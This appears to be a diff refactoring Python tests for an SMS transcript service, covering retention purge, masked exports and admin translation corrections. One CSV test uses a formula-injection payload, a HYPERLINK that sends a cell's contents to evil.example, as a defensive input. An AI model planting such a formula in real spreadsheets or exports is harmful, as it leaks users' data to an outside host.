@@ -11,10 +11,12 @@ from sqlalchemy import func, select, update
 from sqlalchemy.orm import Session, sessionmaker
 
 from languages.memory import normalise
+from tests.support.staff import STAFF
 from transcripts.accounts import Accounts
 from transcripts.corrections import Corrections
 from transcripts.db import utcnow
 from transcripts.export import export_rows, write_csv, write_jsonl
+from transcripts.inbound import InboundSms, InboundTranslation
 from transcripts.models import (
     Contact,
     Conversation,
@@ -24,8 +26,8 @@ from transcripts.models import (
     Role,
     WebhookReceipt,
 )
+from transcripts.record import Record
 from transcripts.retention import purge_before
-from transcripts.service import InboundSms, InboundTranslation, TranscriptService
 
 
 def sms(sid: str, body: str, phone: str) -> InboundSms:
@@ -51,13 +53,13 @@ def count(sessions: sessionmaker[Session], model: type) -> int:
 
 
 def test_purge_deletes_old_closed_conversations_only(
-    sessions: sessionmaker[Session], record: TranscriptService
+    sessions: sessionmaker[Session], record: Record
 ) -> None:
-    old_closed = record.record_inbound_sms(sms("SM1", "old and closed", "+821011110000"))
-    record.record_inbound_sms(sms("SM2", "old but still open", "+821022220000"))
-    record.close_conversation(old_closed.conversation_id, Disposition.RESOLVED, None)
+    old_closed = record.inbound.record_sms(sms("SM1", "old and closed", "+821011110000"))
+    record.inbound.record_sms(sms("SM2", "old but still open", "+821022220000"))
+    record.agents.close(old_closed.conversation_id, STAFF, Disposition.RESOLVED)
     age(sessions, 400)
-    record.record_inbound_sms(sms("SM3", "new", "+821033330000"))
+    record.inbound.record_sms(sms("SM3", "new", "+821033330000"))
     cutoff = utcnow() - timedelta(days=365)
 
     preview = purge_before(sessions, cutoff, dry_run=True)
@@ -79,11 +81,11 @@ def test_purge_deletes_old_closed_conversations_only(
 
 
 def test_export_streams_every_message_masked_by_default(
-    sessions: sessionmaker[Session], record: TranscriptService
+    sessions: sessionmaker[Session], record: Record
 ) -> None:
     body = "My ARC is 900101-5123456, call me on 010-1234-5678"
     for number in range(3):
-        record.record_inbound_sms(sms(f"SM{number}", f"{body} ({number})", "+821055501234"))
+        record.inbound.record_sms(sms(f"SM{number}", f"{body} ({number})", "+821055501234"))
 
     rows = list(export_rows(sessions))
     assert [row.original_text for row in rows] == [
@@ -105,10 +107,10 @@ def test_export_streams_every_message_masked_by_default(
 
 
 def test_export_carries_the_machine_text_beside_an_admin_correction(
-    sessions: sessionmaker[Session], record: TranscriptService
+    sessions: sessionmaker[Session], record: Record
 ) -> None:
-    stored = record.record_inbound_sms(sms("SM1", "Call me on 010-1234-5678", "+821055501234"))
-    record.save_inbound_translation(
+    stored = record.inbound.record_sms(sms("SM1", "Call me on 010-1234-5678", "+821055501234"))
+    record.inbound.save_translation(
         stored.message_id,
         InboundTranslation("en", 0.9, "010-1234-5678로 전화", "argos", "m", None, 1.0, 1.0),
     )
@@ -127,11 +129,11 @@ def test_export_carries_the_machine_text_beside_an_admin_correction(
 
 
 def test_csv_cells_never_run_as_spreadsheet_formulas(
-    sessions: sessionmaker[Session], record: TranscriptService
+    sessions: sessionmaker[Session], record: Record
 ) -> None:
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     for number, body in enumerate([hostile, "+1 555 0100", "-5 degrees", "@home", "fine"]):
-        record.record_inbound_sms(sms(f"SM{number}", body, "+821055501234"))
+        record.inbound.record_sms(sms(f"SM{number}", body, "+821055501234"))
     rows = list(export_rows(sessions, masked=False))
     table = io.StringIO()
     write_csv(rows, table)
